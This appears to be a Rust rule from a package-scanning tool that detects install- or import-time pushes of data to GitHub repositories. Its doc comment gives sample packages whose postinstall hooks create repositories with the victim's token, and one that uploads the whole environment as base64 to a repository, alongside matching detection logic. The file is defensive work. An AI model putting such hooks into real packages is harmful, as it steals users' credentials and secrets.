//! # Data is pushed to a repository unasked
//!
//! At install or import, a repository or gist is made, or the environment or a secret file is written into
//! one.
//!
//! ## Why it matters
//!
//! With the victim's own token, the drop lies under the victim's own name on a host that no firewall
//! blocks. Worms of 2025 made thousands of them.
//!
//! ## Known benign uses
//!
//! Release and documentation tools write to their own repository when a person or a pipeline starts them.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const { Octokit } = require("@octokit/rest");
//! const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });
//! octokit.rest.repos.createForAuthenticatedUser({ name: "drop" }); //~ here
//! ```
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "gh repo create drop --public && gh api -X PUT repos/me/drop/contents/a -f content=x"}}
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! const content = Buffer.from(JSON.stringify(process.env)).toString("base64");
//! const headers = { authorization: "token " + process.env.GH_TOKEN };
//! await fetch("https://api.github.com/repos/a/b/contents/c.json", { method: "PUT", headers, body: JSON.stringify({ content }) }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "bin": {"x": "cli.js"}}
//! == cli.js
//! const { Octokit } = require("@octokit/rest");
//! const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });
//! octokit.rest.repos.createForAuthenticatedUser({ name: process.argv[2] });
//! ```
//!
//! ## References
//!
//! - Nx: S1ngularity postmortem (August 2025)

use crate::prelude::*;

/// Data is pushed to a repository unasked.
pub struct DataPushedToRepository;

impl Rule for DataPushedToRepository {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "data-pushed-to-repository",
            title: "Data is pushed to a repository unasked",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1567.001",
            covers: &["exfil-github-repo"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for call in
            facts.all_calls().iter().filter(|call| call.trigger.runs_unasked() && makes_repository(call))
        {
            found.call(call, "makes a repository");
        }
        for flow in
            facts.flows(is_worth, |_| true).filter(|flow| flow.trigger.runs_unasked() && is_written(flow))
        {
            found.flow(flow);
        }
        for command in facts.commands().iter().filter(|command| command.trigger.runs_unasked()) {
            if command.origin != CommandOrigin::AutoRun && command.runs.iter().any(pushes) {
                found.at(command.trigger, &command.locus, "makes or fills a repository");
            }
        }
    }
}

fn makes_repository(call: &CallFact) -> bool {
    const ENDS: [&str; 3] = [".repos.createForAuthenticatedUser", ".repos.createInOrg", ".gists.create"];
    call.api.starts_with("octokit.") && ENDS.iter().any(|end| call.api.ends_with(end))
}

fn is_worth(source: &Source) -> bool {
    matches!(source, Source::Environment | Source::SecretFile(_) | Source::CommandOutput(_))
        && source.is_secret()
}

fn is_written(flow: &FlowFact) -> bool {
    let is_forge = flow.sink.host().is_some_and(|host| host.class() == HostClass::Forge);
    let is_upload =
        |path: &str| ["/contents", "/git/blobs", "/gists", "/issues"].iter().any(|part| path.contains(part));
    flow.api.starts_with("octokit.") || is_forge && flow.sink.host().is_some_and(|host| is_upload(&host.path))
}

fn pushes(run: &Run) -> bool {
    let Run::Program { name, arguments } = run else { return false };
    let has = |words: &[&str]| arguments.iter().any(|argument| words.contains(&argument.as_str()));
    match arguments.first().map(String::as_str).filter(|_| name == "gh" || name.ends_with("/gh")) {
        Some("repo" | "gist" | "issue") => arguments.get(1).is_some_and(|word| word == "create"),
        Some("api") => has(&["PUT", "POST", "PATCH", "-f", "-F", "--field", "--raw-field", "--input"]),
        _ => false,
    }
}
